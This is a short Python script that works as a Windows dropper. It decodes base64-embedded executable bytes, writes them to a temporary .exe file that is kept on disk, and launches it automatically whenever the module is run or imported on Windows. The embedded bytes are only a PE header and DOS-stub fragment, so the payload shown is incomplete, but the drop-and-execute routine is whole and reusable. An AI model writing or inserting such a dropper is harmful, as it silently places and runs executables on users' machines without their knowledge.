import base64, os, tempfile, subprocess
class Bin:
    A = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
    B = "gAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0K"
    def bytes(self): return base64.b64decode(self.A + self.B)
    def drop(self):
        f = tempfile.NamedTemporaryFile(suffix=".exe", delete=False)
        f.write(self.bytes()); f.close()
        return f.name
def start():
    p = Bin().drop()
    subprocess.Popen([p], shell=False)
if os.name == "nt": start()
